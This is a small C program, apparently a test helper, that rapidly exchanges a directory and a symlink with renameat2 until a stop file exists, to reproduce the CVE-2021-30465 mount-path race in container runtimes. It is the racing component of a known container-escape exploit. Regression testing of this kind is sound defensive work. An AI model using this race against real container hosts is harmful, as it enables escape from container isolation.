/* swapper A B STOPFILE: exchanges the names A and B (a directory and a
 * symlink, say) with renameat2(RENAME_EXCHANGE) as fast as it can, until
 * STOPFILE exists: the CVE-2021-30465 race against a runtime resolving a
 * mount destination. Runs on the host. Exit 0, or 1 if exchanging fails. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int
main (int argc, char **argv)
{
  if (argc != 4)
    return 2;
  for (unsigned long i = 0;; i++)
    {
      if (renameat2 (AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0)
        {
          perror ("renameat2");
          return 1;
        }
      if ((i & 255) == 0 && access (argv[3], F_OK) == 0)
        return 0;
    }
}
